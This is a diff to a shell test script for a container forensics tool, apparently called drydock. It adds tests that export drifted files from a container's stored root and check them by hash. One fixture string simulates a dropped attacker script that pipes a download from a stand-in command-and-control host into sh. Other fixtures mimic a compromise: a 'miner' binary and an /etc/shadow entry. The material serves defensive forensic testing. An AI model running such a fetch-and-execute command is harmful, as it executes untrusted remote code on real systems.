@@ -16,6 +16,8 @@
 # what came before the cut; a tar that holds no runtime root is rejected,
 # case unchanged. podman's diff output, saved to a file named by the
 # container id, imports as that container's drift (source docker diff).
+# export-file --container writes a drift file's bytes from the stored
+# root (cmp against the file the container wrote).
 set -u
 . "$(dirname "$0")/../lib/lib.sh"
 
@@ -36,6 +38,16 @@ expect_eq "a deleted file keeps the content hash and diff id of the image layer 
 	"$(q "$C" "select sha256 || '|' || layer_id from drift where artifact_id = $O and path = '/etc/shadow'")"
 expect_eq "new and changed executables are flagged" "/bin/ls /etc/hosts /tmp/x" \
 	"$(q "$C" "select path from drift where artifact_id = $O and executable = 1 and change != 'D' order by path" | tr '\n' ' ' | sed 's/ $//')"
+dk export-file "$C" --container c0ffee /tmp/x -o "$T/x.out"
+expect_rc 0 "export-file --container: an added file of the writable layer"
+expect_eq "its bytes, from the stored root" "$(printf '#!/bin/sh\ncurl http://c2.example/m | sh\n' | sha256sum)" \
+	"$(sha256sum <"$T/x.out")"
+expect_eq "a deleted file exports the version the image held" "root:*:19000:0:::::" \
+	"$("$DRYDOCK" -q export-file "$C" --container c0ffee /etc/shadow -o - 2>/dev/null)"
+dk export-file "$C" --container c0ffee /etc/nothere -o "$T/n.out"
+expect_rc 1 "a path the container did not change is not exported"
+check "and the error says so" grep -q "did not change '/etc/nothere'" "$T/.err"
+[ ! -e "$T/n.out" ] && ok "no output file left" || fail "no output file left"
 expect_eq "the container from config.v2.json and hostconfig.json" "evil|alpine:3.18|1" \
 	"$(q "$C" "select name || '|' || image || '|' || privileged from containers where id like 'c0ffee%'")"
 expect_eq "layers: two image layers with diff ids, the init layer, the writable layer" \
@@ -62,6 +74,9 @@ if [ -d "$F" ] && command -v jq >/dev/null; then
 	expect_eq "overlay2: the file container 8e8b7f23 added, with the SHA-256 of its bytes" \
 		"A|/tets|$(tar -xzOf "$F/docker-explorer_overlay2.v2.tgz" "docker/overlay2/$m/diff/tets" | sha256sum | cut -c1-64)" \
 		"$(q "$C" "select change || '|' || path || '|' || sha256 from drift where artifact_id = $a")"
+	dk export-file "$C" --container 8e8b7f23 /tets -o "$T/tets.out"
+	expect_rc 1 "a compressed root's drift has no stored content to export"
+	check "and the error says why" grep -q "compressed original" "$T/.err"
 else
 	echo "note: ../shared/fixtures/dockerhost or jq absent"
 fi
@@ -95,6 +110,9 @@ if mk_podman; then
 	check "drift is what podman container diff prints" diff "$T/podman.diff" "$T/dd.diff"
 	expect_eq "the new executable, with the SHA-256 of busybox" "/tmp/miner|$(sha256sum "$(command -v busybox)" | cut -c1-64)" \
 		"$(q "$C" "select path || '|' || sha256 from drift where artifact_id = $R and executable = 1 and change = 'A'")"
+	"$DRYDOCK" -q export-file "$C" --container dd-drift-ctr /tmp/miner -o "$T/miner.out"
+	check "export-file --container by name gives the dropped binary byte for byte" \
+		cmp "$(command -v busybox)" "$T/miner.out"
 	expect_eq "the deleted log keeps its content hash" "$(echo started | sha256sum | cut -c1-64)" \
 		"$(q "$C" "select sha256 from drift where artifact_id = $R and path = '/var/log/app.log'")"
 	expect_eq "the container and its image" "dd-drift-ctr|localhost/dd-drift:latest" \
